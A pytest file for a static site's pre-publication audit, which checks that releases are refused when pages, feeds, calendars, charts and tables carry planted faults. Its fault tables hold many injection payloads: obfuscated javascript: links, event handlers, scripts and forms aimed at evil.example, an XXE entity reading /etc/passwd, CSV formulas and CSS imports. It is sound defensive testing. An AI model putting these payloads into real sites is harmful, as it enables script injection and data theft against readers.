"""What is about to be published is read once more: whatever is wrong with it, nothing is switched in."""

import hashlib
import os
import re

import pytest

from sourcebook.build import load
from sourcebook.publish import release
from sourcebook.publish.audit import audit as auditing
from sourcebook.publish.audit.quotes import Quotes
from sourcebook.publish.audit.recorded import Recorded
from sourcebook.publish.finish import SUMS

PAGE = "events/1931-marsh-notes-pass/index.html"
SOURCE = "sources/1931-courier-answers/index.html"
H1 = "<h1 id="
END = "</article>"
IN_PAGES = {
    "a handler": (H1, '<h1 onclick="go()" id='),
    "a style attribute": (H1, '<h1 style="color:red" id='),
    "a style element": (END, "<style>p{}</style></article>"),
    "a frame": (END, '<iframe src="../../"></iframe></article>'),
    "a base": ("</head>", '<base href="https://evil.example/"></head>'),
    "a form with an action": (END, '<form action="https://evil.example/"></form></article>'),
    "a button with an action": (END, '<button formaction="https://evil.example/">x</button></article>'),
    "an object": (END, '<object data="../../assets/logo.svg"></object></article>'),
    "an embed": (END, '<embed src="../../assets/logo.svg"></article>'),
    "a script within a drawing": (END, "<svg><script>alert(1)</script></svg></article>"),
    "markup from elsewhere within a drawing": (END, "<svg><foreignObject></foreignObject></svg></article>"),
    "a moving drawing": (END, '<svg><animate attributeName="href" to="javascript:go()"/></svg></article>'),
    "a template": (END, "<template><p>x</p></template></article>"),
    "a script of another host": ("</body>", '<script src="https://evil.example/x.js"></script></body>'),
    "a script that is data": ("</body>", '<script src="data:text/javascript,go()"></script></body>'),
    "a script with another hash": ("</body>", "<script>go()</script></body>"),
    "a pinned script that was touched": ("<script>new Mut", "<script>/**/new Mut"),
    "a script with attributes": ("</body>", '<script async="">go()</script></body>'),
    "a script in an unusual spelling": ("</body>", "<script >go()</script></body>"),
    "a script that ends itself": ("</body>", "<script/>go()</script></body>"),
    "a script of an empty type": (
        "</body>",
        '<script type="" src="https://evil.example/x.js"></script></body>',
    ),
    "a host in data whose type comes later": (
        "</body>",
        '<script id="x" type="application/json">{"a": "https://evil.example/"}</script></body>',
    ),
    "no word on where a reader came from": ('<meta name="referrer" content="no-referrer">', ""),
    "an import map": ("</body>", '<script type="importmap">{}</script></body>'),
    "a refresh to elsewhere": (
        "</head>",
        '<meta http-equiv="refresh" content="0; url=https://evil.example/"></head>',
    ),
    "a refresh by a script": (
        "</head>",
        '<meta http-equiv="Refresh" content="0;url=javascript:go()"></head>',
    ),
    "a header in a page": ("</head>", '<meta http-equiv="set-cookie" content="a=b"></head>'),
    "a link of a chart that no page has filled in": (
        END,
        '<a href="https://chart.invalid/timeline/">x</a></article>',
    ),
    "a place behind a question that the page has not": (END, '<a href="?a=b#nowhere">x</a></article>'),
    "a sign that is not shown in a question": (END, '<a href="?a=\u200bb">x</a></article>'),
    "a link that is a script": (END, '<a href="javascript:go()">x</a></article>'),
    "one that hides it in references": (END, '<a href="jav&#x61;script&colon;go()">x</a></article>'),
    "one that hides it by a tab": (END, '<a href="java&#9;script:go()">x</a></article>'),
    "one that hides it by a space before": (END, '<a href=" javascript:go()">x</a></article>'),
    "an upper-case scheme": (END, '<a href="JavaScript:go()">x</a></article>'),
    "a link behind a space": (END, '<a href= "javascript:go()">x</a></article>'),
    "one behind the end of a line": (END, '<a href=\n"javascript:go()" class="x">x</a></article>'),
    "a script behind a space": ("</body>", '<script src= "https://evil.example/x.js"></script></body>'),
    "a link that is data": (END, '<a href="data:text/html,x">x</a></article>'),
    "a link in a drawing": (END, '<svg><a xlink:href="javascript:go()"><text>x</text></a></svg></article>'),
    "a host that nobody named": (END, '<a href="https://evil.example/">x</a></article>'),
    "a host without a scheme": (END, '<a href="//evil.example/">x</a></article>'),
    "a host behind a backslash": (END, '<a href="/\\evil.example/">x</a></article>'),
    "a host behind a name": (END, '<a href="https://ferry-record.example.org@evil.example/">x</a></article>'),
    "a host like ours": (END, '<a href="https://ferry-record.example.org.evil.example/">x</a></article>'),
    "a picture of another host": (
        END,
        '<img src="https://ferry-record.example.org.evil.example/x.png" alt=""></article>',
    ),
    "pictures to choose from": (END, '<img srcset="https://evil.example/x.png 2x" alt=""></article>'),
    "a poster": (END, '<video poster="https://evil.example/x.png"></video></article>'),
    "a style sheet of another host": (
        "</head>",
        '<link rel="stylesheet" href="https://github.com/x.css"></head>',
    ),
    "one of several relations": (
        "</head>",
        '<link rel="alternate stylesheet" href="https://github.com/x.css"></head>',
    ),
    "one in capitals": ("</head>", '<link rel="Stylesheet" href="https://github.com/x.css"></head>'),
    "a button that is a picture": (END, '<input type="image" src="https://github.com/x.png"></article>'),
    "a paint of another host": (
        END,
        '<svg><rect fill="url(https://evil.example/x.svg#a)"/></svg></article>',
    ),
    "a paint in escapes": (END, '<svg><rect stroke="u\\72l(//evil.example/x.svg#a)"/></svg></article>'),
    "a host asked beforehand": ("</head>", '<link rel="preconnect" href="https://github.com/"></head>'),
    "a host in the head": (
        '<meta property="og:type" content="',
        '<meta property="og:image" content="https://evil.example/x.png"><meta property="og:type" content="',
    ),
    "a host in linked data": (
        '"@context":"https://schema.org"',
        '"@context":"https://schema.org","url":"https://evil.example/"',
    ),
    "a value without quotes": (END, "<p title=x>x</p></article>"),
    "a value in single quotes": (END, "<p title='x'>x</p></article>"),
    "a tag within a value": (END, '<p title="</noscript><img src=x onerror=go()>">x</p></article>'),
    "a comment": (END, "<!-- x --></article>"),
    "a section of raw text": (END, "<svg><![CDATA[x]]></svg></article>"),
    "an upper-case tag": (END, "<SCRIPT>go()</SCRIPT></article>"),
    "a slash for a space": (END, "<p/onclick=go()>x</p></article>"),
    "a tag that does not end": (END, '</article><p title="x"'),
    "an attribute twice": (END, '<a href="../../" href="https://evil.example/">x</a></article>'),
    "a dead link": (END, '<a href="../../officials/nobody/">x</a></article>'),
    "a dead anchor": (END, '<a href="../../timeline/#y1066">x</a></article>'),
    "a dead anchor of its own": (END, '<a href="#nowhere">x</a></article>'),
    "a dead own address": (END, '<a href="https://ferry-record.example.org/nowhere/">x</a></article>'),
    "a link out of the site": (END, '<a href="../../../x/">x</a></article>'),
    "a policy that lets more in": ("default-src 'none'", "default-src *"),
    "no policy": ('<meta http-equiv="Content-Security-Policy"', '<meta name="policy"'),
    "a script before the policy": ("<head>", '<head><script src="../../assets/charts.js"></script>'),
    "no charset": ('<meta charset="utf-8">', ""),
    "another charset": ("</head>", '<meta charset="utf-16"></head>'),
    "a policy after the first": (
        "</head>",
        '<meta http-equiv="Content-Security-Policy" content="default-src *"></head>',
    ),
    "a looser word on where a reader came from": (
        "</head>",
        '<meta name="referrer" content="unsafe-url"></head>',
    ),
    "one in other letters": ("</head>", '<meta content="unsafe-url" name="Referrer "></head>'),
    "one in references": ("</head>", '<meta name="referr&#101;r" content="unsafe-url"></head>'),
    "a relation in references": (
        "</head>",
        '<link rel="style&#115;heet" href="https://github.com/x.css"></head>',
    ),
    "a style sheet whose address comes first": (
        "</head>",
        '<link href="https://github.com/x.css" rel="stylesheet"></head>',
    ),
    "a refresh in references": (
        "</head>",
        '<meta http-equiv="refres&#104;" content="0; url=https://evil.example/"></head>',
    ),
    "a refresh that names nothing": ("</head>", '<meta http-equiv="refresh" content=""></head>'),
    "a link behind a value that ends as one begins": (
        END,
        '<a title="x href=" href="javascript:go()">x</a></article>',
    ),
    "a handler behind a relation that ends as a value begins": (
        END,
        '<a rel="help=" onclick="go()" title="">x</a></article>',
    ),
    "a script that does not end": ("</body>", "<script></body>"),
    "a sign that begins no tag": (END, "<</article>"),
    "an address with an odd space": (END, '<a href="https://github.com/\u2003x">x</a></article>'),
    "a handler in the frame": ('<a class="site-name" ', '<a onclick="go()" class="site-name" '),
    "a dead link in the frame": ('href="../../timeline/"', 'href="../../timelines/"'),
    "words that are struck out": (END, "<del>x</del></article>"),
    "words that are hidden": (END, "<p hidden>x</p></article>"),
    "words that are turned round": (END, '<bdo dir="rtl">x</bdo></article>'),
    "a quotation within a sentence": (END, "<p><q>I lied,</q> he said.</p></article>"),
    "a page that is fetched beforehand": ("</head>", '<link rel="next" href="https://github.com/x"></head>'),
    "a word for cards that no page has": (
        "</head>",
        '<meta name="twitter:image:alt" content="Ida Fenn lied."></head>',
    ),
    "a class in references": (END, '<p class="attributio&#110;">x</p></article>'),
    "an address with a sign that is not shown": (END, '<a href="https://github.com/\u00adx">x</a></article>'),
    "a link above the site that is an address": (END, '<a href="../../https://github.com/">x</a></article>'),
    "a script in the frame below": ('<script id="__config"', "<script>go()</script><script"),
    "an address of mail that nobody named": (END, '<a href="mailto:evil@evil.example">x</a></article>'),
    "a mail that asks for more": (END, '<a href="mailto:?to=evil@evil.example">x</a></article>'),
    "a place twice": (END, '<p id="top">x</p></article>'),
    "a place twice in one tag": (END, '<p id="zz">x</p><p id="zz">y</p></article>'),
    "a place of the frame once more": (END, '<p id="sections">x</p></article>'),
    "a drawing that does not end on a page": (END, "<svg></article>"),
    "a link that does not end": (END, '<a href="../../">x</article>'),
    "a link that does not end, its attribute on a line of its own": (END, '<a\nhref="../../">x</article>'),
    "a form that does not end": (END, '<form class="x"></article>'),
    "a fold that does not end": (END, "<details></article>"),
    "an end of what did not begin": (END, "</a></article>"),
    "a link of the frame that does not end": ("</footer>", '<a href="../../">x</footer>'),
    "another title": ("<title>Marsh says", "<title>Marsh denies"),
    "another title for cards": (
        'property="og:title" content="Marsh says',
        'property="og:title" content="Marsh denies',
    ),
    "another title for citations": (
        '"citation_title" content="Marsh says',
        '"citation_title" content="Marsh denies',
    ),
    "a title for citations that does not say how it stands": (" [Statement, on record]", ""),
    "what another record says": (
        'property="og:description" content="Odo',
        'property="og:description" content="No Odo',
    ),
    "another kind of card": ('"summary_large_image"', '"Ida Fenn lied."'),
    "the card of another record": (
        "cards/events/1931-marsh-notes-pass.png",
        "cards/events/1920-ferry-charter.png",
    ),
    "the address of another record": (
        '"canonical" href="https://ferry-record.example.org/events/1931-marsh-notes-pass/"',
        '"canonical" href="https://ferry-record.example.org/events/1920-ferry-charter/"',
    ),
    "the address of another record, once more": (
        "</head>",
        '<link href="https://ferry-record.example.org/events/1920-ferry-charter/" rel="canonical"></head>',
    ),
    "the address of another record for cards": (
        'property="og:url" content="https://ferry-record.example.org/events/1931-marsh-notes-pass/"',
        'property="og:url" content="https://ferry-record.example.org/events/1920-ferry-charter/"',
    ),
    "another day for citations": (
        '"citation_publication_date" content="1932',
        '"citation_publication_date" content="1933',
    ),
    "another name of the site": (
        'property="og:site_name" content="The',
        'property="og:site_name" content="No',
    ),
    "a second title for cards, the words first": (
        "</head>",
        '<meta content="Marsh lied" property="og:title"></head>',
    ),
    "a second title for cards, on a line of its own": (
        "</head>",
        '<meta\nproperty="og:title" content="Marsh lied"></head>',
    ),
    "a title before the title": ("<title>", '<title lang="en">Marsh lied</title><title>'),
    "a second title": ("<title>", "<title>Marsh lied</title><title>"),
    "another record as canonical, in capitals": (
        "</head>",
        '<link rel="CANONICAL" href="https://ferry-record.example.org/events/1920-ferry-charter/"></head>',
    ),
    "another record as canonical, beside itself": (
        "</head>",
        '<link rel="canonical self" href="https://ferry-record.example.org/events/1920-ferry-charter/"></head>',
    ),
    "a second description": ("</head>", '<meta name="description" content="Marsh lied"></head>'),
    "another name for programs": ('"name":"Marsh says', '"name":"Marsh denies'),
    "another record for programs": (
        '"mainEntity":{"@id":"https://ferry-record.example.org/events/1931-marsh-notes-pass/',
        '"mainEntity":{"@id":"https://ferry-record.example.org/events/1920-ferry-charter/',
    ),
    "another page for programs": (
        '"@id":"https://ferry-record.example.org/events/1931-marsh-notes-pass/"',
        '"@id":"https://ferry-record.example.org/events/1920-ferry-charter/"',
    ),
    "a statement as a claim for programs": ('"@type":"Event"', '"@type":"Claim"'),
    "another name of a topic for programs": ('"name":"The notes"', '"name":"The lies"'),
    "other words in the frame": ("All sections</a>", "All sections are lies</a>"),
    "other words in the frame below": ('site-footer__line">What two', 'site-footer__line">What no'),
    "other words that are read out in the frame": ('aria-label="Main"', 'aria-label="Marsh lied"'),
}
IN_FILES = {
    "a link of the page for what is not there that leads elsewhere below": (
        "404.html",
        "</main>",
        '<a href="timeline/">x</a></main>',
    ),
    "another map in robots.txt, in small letters": (
        "robots.txt",
        "Sitemap: ",
        "sitemap: https://evil.example/sitemap.xml\nSitemap: ",
    ),
    "a link of a chart in a plain copy": (
        "index.txt",
        "](https://ferry-record.example.org/",
        "](https://chart.invalid/",
    ),
    "a link of a chart in the calendar": (
        "data/v1/calendar.ics",
        "URL:https://ferry-record.example.org/",
        "URL:https://chart.invalid/",
    ),
    "a link of a chart in a table": (
        "data/v1/csv/events.csv",
        "https://ferry-record.example.org/",
        "https://chart.invalid/",
    ),
    "an address behind a space in a plain copy": ("index.txt", "# ", "[x]( javascript:go())\n\n# "),
    "an address on the next line in a plain copy": ("index.txt", "# ", "[x](\njavascript:go())\n\n# "),
    "an address set apart in a list of a plain copy": ("index.txt", "# ", "- [x]: javascript:go()\n\n# "),
    "an address set apart over two lines in a plain copy": (
        "index.txt",
        "# ",
        "[x\n]: javascript:go()\n\n# ",
    ),
    "a file that a feed has fetched": (
        "feed.xml",
        "<author>",
        '<link rel="enclosure" href="https://github.com/" /><author>',
    ),
    "a logo of another host in a feed": (
        "feed.xml",
        "<author>",
        "<logo>https://github.com/x.png</logo><author>",
    ),
    "a feed that ends early": ("feed.xml", "</feed>", "</entry>"),
    "a reference to nothing in a feed": ("feed.xml", "<author>", "&x;<author>"),
    "a drawing that does not end": ("charts/timeline.svg", "</svg>", ""),
    "a formula behind a sign that is not shown in a table": (
        "data/v1/csv/events.csv",
        ",Marsh says",
        ",\u200b=1 Marsh says",
    ),
    "a host in a feed": ("feed.xml", "<author>", '<link href="https://evil.example/" /><author>'),
    "a host as the name of an entry": ("feed.xml", "<author>", "<id>https://evil.example/</id><author>"),
    "markup in a feed": ("feed.xml", "<summary>", '<summary type="html">'),
    "a script in a feed": (
        "feed.xml",
        "<author>",
        '<script xmlns="http://www.w3.org/1999/xhtml">go()</script><author>',
    ),
    "a style sheet for a feed": (
        "feed.xml",
        "<feed",
        '<?xml-stylesheet href="https://evil.example/x.xsl"?><feed',
    ),
    "an entity in a feed": (
        "feed.xml",
        "<feed",
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><feed',
    ),
    "a host in the map": (
        "sitemap.xml",
        "<loc>https://ferry-record.example.org/",
        "<loc>https://evil.example/",
    ),
    "a page in the map that is not": (
        "sitemap.xml",
        "<loc>https://ferry-record.example.org/",
        "<loc>https://ferry-record.example.org/x",
    ),
    "a host in the calendar": (
        "data/v1/calendar.ics",
        "URL:https://ferry-record.example.org/",
        "URL:https://evil.example/",
    ),
    "a script in the calendar": (
        "data/v1/calendar.ics",
        "URL:https://ferry-record.example.org/",
        "URL:javascript:go(",
    ),
    "a script in the calendar in small letters": (
        "data/v1/calendar.ics",
        "URL:",
        "url:javascript:go()\r\nURL:",
    ),
    "a host in a parameter of the calendar": (
        "data/v1/calendar.ics",
        "SUMMARY:",
        'SUMMARY;ALTREP="https://evil.example/":',
    ),
    "a picture in the calendar": (
        "data/v1/calendar.ics",
        "TRANSP:",
        "ATTACH:https://evil.example/x\r\nTRANSP:",
    ),
    "an alarm in the calendar": ("data/v1/calendar.ics", "TRANSP:", "ACTION:AUDIO\r\nTRANSP:"),
    "a line within a line of the calendar": (
        "data/v1/calendar.ics",
        "SUMMARY:",
        "SUMMARY:\rURL:javascript:go()",
    ),
    "a link of another field for TimelineJS": (
        "data/v1/timelinejs.json",
        '"group":',
        '"link":"https://evil.example/","group":',
    ),
    "what is computed in a chart": ("charts/timeline.json", '{"columns":', '{"signal":"go()","columns":'),
    "an address in a column of a chart": (
        "charts/timeline.json",
        '"hits":{',
        '"hits":{"href":0,',
    ),
    "records of charts elsewhere": (
        "charts/template.json",
        '"records":"https://chart.invalid/',
        '"records":"javascript:go()//',
    ),
    "a chart of another form": ("charts/timeline.json", '"forms":', '"form":'),
    "markup for TimelineJS": (
        "data/v1/timelinejs.json",
        '"text":"<p>',
        '"text":"<p><img src=x onerror=go()>',
    ),
    "markup in a headline": ("data/v1/timelinejs.json", '"headline":"', '"headline":"<b>x</b>'),
    "a handler for TimelineJS": ("data/v1/timelinejs.json", "<p><a href=", '<p><a onclick=\\"go()\\" href='),
    "a link for TimelineJS": ("data/v1/timelinejs.json", 'href=\\"https://', 'href=\\"javascript:go()//'),
    "a picture for TimelineJS": (
        "data/v1/timelinejs.json",
        '"group":',
        '"media":{"url":"https://evil.example/x"},"group":',
    ),
    "an address within an address of a chart": (
        "charts/timeline.json",
        '{"columns":',
        '{"href":{"value":"javascript:go()"},"columns":',
    ),
    "a field that is no field of a chart": (
        "charts/template.json",
        '"href":{"field":"href"',
        '"href":{"value":"javascript:go()","field":"href"',
    ),
    "a script of ours": ("assets/cite.js", "", "go();"),
    "a script of the theme": ("assets/javascripts/bundle", "", "go();"),
    "a style sheet of ours": ("assets/site.css", "{", "{display:none;"),
    "a colour": ("assets/palette.css", "#", "#f"),
    "a script in a place of ours": ("assets/lines.js", None, b"go();"),
    "a host in a drawing": (
        "charts/timeline.svg",
        'xlink:href="https://ferry-record.example.org/',
        'xlink:href="https://evil.example/',
    ),
    "a script in a drawing": ("charts/timeline.svg", "</svg>", "<script>go()</script></svg>"),
    "a link behind a space in a drawing": (
        "charts/timeline.svg",
        "</svg>",
        '<a xlink:href= "javascript:go()"><text>x</text></a></svg>',
    ),
    "a paint in a drawing": (
        "charts/timeline.svg",
        "</svg>",
        '<rect fill="url(https://evil.example/x.svg#a)"/></svg>',
    ),
    "a handler in a drawing": ("charts/timeline.svg", "<svg ", '<svg onload="go()" '),
    "a script in a chart": (
        "charts/timeline.json",
        '{"columns":',
        '{"href":"javascript:go()//","columns":',
    ),
    "a host in a chart": (
        "charts/timeline.json",
        '{"columns":',
        '{"href":"https://evil.example/","columns":',
    ),
    "a way hidden in a chart": (
        "charts/timeline.json",
        '{"columns":',
        '{"href":"https:\\/\\/evil.example/","columns":',
    ),
    "a dead link in a chart": (
        "charts/timeline.json",
        '{"columns":',
        '{"href":"https://chart.invalid/nowhere/","columns":',
    ),
    "a host in the data": (
        "data/v1/json/events.json",
        '"https://ferry-record.example.org/',
        '"https://evil.example/',
    ),
    "a host in a table": (
        "data/v1/csv/events.csv",
        "https://ferry-record.example.org/",
        "https://evil.example/",
    ),
    "a host in a plain copy": ("index.txt", "](https://ferry-record.example.org/", "](https://evil.example/"),
    "markup in a plain copy": ("index.txt", "# ", "<script>go()</script>\n\n# "),
    "an address set apart in a plain copy": ("index.txt", "# ", "[x]: https://github.com/x\n\n# "),
    "a formula in a table": ("data/v1/csv/events.csv", ",Marsh says", ",=1+1 Marsh says"),
    "a formula behind a space in a table": ("data/v1/csv/events.csv", ",Marsh says", ',"\u00a0-1+cmd'),
    "a picture in a style sheet": ("assets/site.css", "{", "{background:url(https://evil.example/x.png);"),
    "one in escapes": ("assets/site.css", "{", "{background:\\75 rl('//evil.example/x.png');"),
    "one between strings": (
        "assets/site.css",
        "",
        'a{content:"/*"}b{background:url(https://evil.example/x.png)}c{content:"*/"}',
    ),
    "one after a string": (
        "assets/site.css",
        "",
        'a{content:"url("data:image/x;background:url(https://evil.example/x.png);content:""}',
    ),
    "a style sheet in a style sheet": ("assets/site.css", "", '@import "https://evil.example/x.css";'),
    "a page that the map does not name": (
        "sitemap.xml",
        "<url><loc>https://ferry-record.example.org/events/1931-marsh-notes-pass/</loc>",
        "<url><loc>https://ferry-record.example.org/</loc>",
    ),
    "a file that nobody meant": ("about/notes.txt", None, b"Notes."),
    "a page that nobody meant": ("events/x.html", None, b""),
    "a picture that nobody meant": ("cards/x.png", None, b"x"),
    "a picture that is missing": ("assets/favicon.svg", "", None),
    "an address in the data that hides": (
        "data/v1/json/events.json",
        '"address":"https://ferry-record.example.org/',
        '"address" :\t"java\u200bscript://',
    ),
    "a list of addresses": (
        "data/v1/json/events.json",
        '"address":"https://ferry-record.example.org/',
        '"address": ["javascript:go()"], "x": "',
    ),
    "a finding of the search that leads elsewhere": (
        "search/found/0.json",
        '"address":"',
        '"address":"//evil.example/',
    ),
    "no UTF-8": ("about/notes.txt", None, b"\xff"),
    "a file of a kind that the site has not": ("assets/x.swf", None, b"x"),
    "a page in a language of programs": ("about/x.xhtml", None, b"<html/>"),
    "a style sheet that is missing": ("assets/site.css", "", None),
}


@pytest.mark.parametrize("fault", IN_PAGES)
def test_a_fault_in_a_page_publishes_nothing(finished, tree, fault):
    """
    Whatever a page must not have is told with its line and column, and what to do; readers see the site before.
    """
    before = tree(finished.root / "out" / "site")
    finished.refused(PAGE, *IN_PAGES[fault])

    assert before == tree(finished.root / "out" / "site")


@pytest.mark.parametrize("fault", IN_FILES)
def test_a_fault_in_another_file_publishes_nothing(finished, fault):
    """
    Feeds, the map, the calendar, drawings, data, plain copies, scripts and style sheets are read, too.
    """
    path, old, new = IN_FILES[fault]
    path = next((str(one.relative_to(finished.made)) for one in finished.made.glob(f"{path}.*.js")), path)
    live = os.readlink(finished.root / "out" / "site")
    finished.plant(path, old, new)
    lines = finished.publish()

    assert lines
    assert new is None or any(one.startswith(f"out/releases/next/{path}:") for one in lines)
    assert live == os.readlink(finished.root / "out" / "site")


def test_what_is_wrong_in_many_frames_is_told_of_each(finished):
    """
    A part that many pages have is read once only while nothing is wrong with it.
    """
    pages = [f"events/{one}/index.html" for one in os.listdir(finished.made / "events") if "." not in one][:4]
    for path in pages:
        finished.plant(path, '<a class="site-name" ', '<a onclick="go()" class="site-name" ')

    assert {f"out/releases/next/{one}" for one in pages} == {one.split(":")[0] for one in finished.publish()}


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        pytest.param(PAGE, "<mark>", "<mark>Not ", id="on the page of an event"),
        pytest.param(SOURCE, "<mark>", "<mark>Not ", id="on that of its article"),
        pytest.param("claims/notes-were-passed/index.html", "<mark>", "<mark>Not ", id="on that of a claim"),
    ],
)
def test_a_changed_word_publishes_nothing(finished, path, old, new):
    """
    What is given as an article's words stands in its file in seeds/, word for word.
    """
    finished.plant(path, old, new)

    assert any("does not stand in the article" in line for line in finished.publish())


def test_an_article_that_nobody_quotes_is_read_too(finished):
    """
    A changed word is found on the page of an article in which nothing is marked.
    """
    page = re.sub("</?mark[^>]*>", "", (finished.made / SOURCE).read_text("utf-8"))
    finished.plant(SOURCE, None, page.replace("oarsmen", "bargemen").encode())

    assert any("does not stand in the article" in line for line in finished.publish())


def test_a_quotation_without_a_mark_is_read_too(finished):
    """
    A changed word is found in a quotation that is given to somebody, though nothing is marked in it.
    """
    finished.plant(PAGE, "<mark>“We pull it", "“We never pull it")
    finished.plant(PAGE, "pull.”</mark>", "pull.”")

    assert any("does not stand in the article" in line for line in finished.publish())


def test_a_link_is_not_followed(finished, monkeypatch):
    """
    A file or folder of the site that only leads elsewhere is told of.
    """
    assemble_site = finished.assemble_site

    def linked(root, to, stage=None):
        assemble_site(root, to, stage)
        (to / "x.txt").symlink_to("/etc/hostname")
        (to / "x").symlink_to("/etc")

    monkeypatch.setattr(release, "assemble_site", linked)
    told = "1:1: a symbolic link: put the file itself here"

    assert {f"out/releases/next/{name}:{told}" for name in ("x", "x.txt")} <= set(finished.publish())


def test_words_are_those_of_the_article_that_is_named(finished):
    """
    Words of one article, given to another, are found out, though both are true.
    """
    finished.plant(
        PAGE, '<a href="../../sources/1931-courier-answers/#q-', '<a href="../../sources/1932-digest-bell/#q-'
    )
    lines = finished.publish()

    assert any("does not stand in the article of 1932-digest-bell" in line for line in lines)


def test_the_place_is_where_it_is(finished):
    """
    Lines and columns count from 1.
    """
    finished.plant(PAGE, H1, '<h1 onclick="go()" id=')
    line, *_ = finished.publish()
    text = (finished.root / "out" / "releases" / "next" / PAGE).read_text("utf-8").split("\n")
    row, column = (int(one) for one in line.split(":")[1:3])

    assert text[row - 1][column - 1 :].startswith("<h1 onclick")


def test_of_many_faults_the_first_are_told(finished):
    """
    Fifty lines, and how many more there are.
    """
    finished.plant(PAGE, END, "".join(f'<a href="x{number}/">x</a>' for number in range(70)) + END)
    lines = finished.publish()

    assert auditing.MAX_REPORTED + 1 == len(lines)
    assert "and 20 more" == lines[-1]


class TestNote:
    @pytest.fixture
    def looked_at(self, monkeypatch):
        """Which files are read."""
        paths, read = [], auditing.Reader.read

        def noted(self, path, text):
            paths.append(path)
            return read(self, path, text)

        monkeypatch.setattr(auditing.Reader, "read", noted)
        return paths

    def test_only_what_differs_is_read(self, finished, looked_at):
        """
        A file that was found good is not read again as long as it is the same, byte for byte.
        """
        finished.plant(PAGE, END, "<p>More.</p></article>")

        assert [] == finished.publish()
        assert [PAGE] == looked_at

    def test_a_file_that_was_refused_is_read_again(self, finished, looked_at):
        """
        What was wrong is wrong the next time.
        """
        finished.plant(PAGE, H1, '<h1 onclick="go()" id=')

        assert finished.publish() == finished.publish() != []
        assert [PAGE, PAGE] == looked_at

    def test_what_goes_is_missed_by_what_stays(self, finished, looked_at):
        """
        A page that is gone is missed, though the pages that lead to it were found good before.
        """
        finished.plant("officials/odo-marsh/index.html", "", None)

        assert any("which is not there" in line for line in finished.publish())

    def test_a_place_that_goes_is_missed_by_what_stays(self, finished):
        """
        A place that an edited page no longer has is missed by the pages that lead to it, though these were found good before.
        """
        assert [] == finished.publish()
        finished.plant("timeline/index.html", ' id="y1931"', "")

        assert any(
            "which has no place" in line and "timeline/" not in line.split(":")[0]
            for line in finished.publish()
        )

    @pytest.mark.parametrize("spoilt", ["", "{", '{"by": 1}', "[]"], ids=repr)
    def test_a_spoilt_note_is_none(self, finished, looked_at, spoilt):
        """
        A note that was cut short, or is another's, is passed over: all is read.
        """
        (finished.root / "out" / "cache" / "audit.json").write_text(spoilt)

        assert [] == finished.publish()
        assert len(looked_at) > 100

    def test_another_article_is_another_measure(self, finished, looked_at):
        """
        Once an article has changed, every quote is read again.
        """
        seed = finished.root / "seeds" / "courier-1931.txt"
        was = seed.read_bytes()
        seed.write_bytes(was.replace(b"notes", b"letters"))
        lines = finished.publish()
        seed.write_bytes(was)

        assert any("does not stand in the article" in line for line in lines)


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        pytest.param("contradictions/notes-or-none.yaml", "quote: 3", "quote: 1", id="passages that differ"),
        pytest.param("claims/notes-were-passed.yaml", "question: 'Were", "question: 'Had", id="a question"),
        pytest.param("vocabulary.yaml", "{label: on record,", "{label: on paper,", id="a status"),
        pytest.param(
            "events/1931/1931-notes-by-back-stairs.yaml",
            "claimed-by-one-side",
            "reported-anonymous",
            id="an act",
        ),
        pytest.param("officials/odo-marsh.md", "Second clerk", "Third clerk", id="an office"),
        pytest.param(
            "events/1931/1931-marsh-notes-pass.yaml", "summary: >-\n  ", "summary: >-\n  No. ", id="a summary"
        ),
        pytest.param("site.yaml", "name: The", "text_in_data: full\nname: The", id="what is given away"),
    ],
)
def test_a_page_that_was_not_made_anew_publishes_nothing(finished, path, old, new):
    """
    Pages that were good are read again where the record says something else now.
    """
    assert [] == finished.publish()
    record = finished.root / "content" / path
    was = record.read_text("utf-8")
    assert old in was
    record.write_text(was.replace(old, new), "utf-8")
    try:
        finished.book = load(finished.root)
        assert any("the record has it otherwise" in line for line in finished.publish())
    finally:
        record.write_text(was, "utf-8")


def test_of_an_edited_summary_its_own_page_alone_is_held_anew(finished):
    """
    What one record says in its own head is no reason to read all others once more.
    """
    record = finished.root / "content" / "events" / "1931" / "1931-marsh-notes-pass.yaml"
    was, before = record.read_text("utf-8"), Quotes(Recorded(finished.root, load(finished.root)))
    record.write_text(was.replace("summary: >-\n  ", "summary: >-\n  No. "), "utf-8")
    try:
        after = Quotes(Recorded(finished.root, load(finished.root)))
    finally:
        record.write_text(was, "utf-8")

    assert before.digest == after.digest
    assert before.digest_of(PAGE) != after.digest_of(PAGE)
    assert before.digest_of("timeline/index.html") == after.digest_of("timeline/index.html")


def test_all_that_is_published_is_listed(finished, tree):
    """
    The list has the SHA-256 of each other file of the site, and no other; the same site has the same list.
    """
    site = tree(finished.root / "out" / "site")
    told = dict(reversed(line.split("  ", 1)) for line in site.pop(SUMS).decode().splitlines())

    assert told == {path: hashlib.sha256(data).hexdigest() for path, data in site.items()}


def test_an_empty_comment_is_no_fault(finished):
    """
    What parts two quotations, or two lists, that follow each other in a text of a curator is published.
    """
    finished.plant(PAGE, END, f"<!-- -->{END}")

    assert [] == finished.publish()
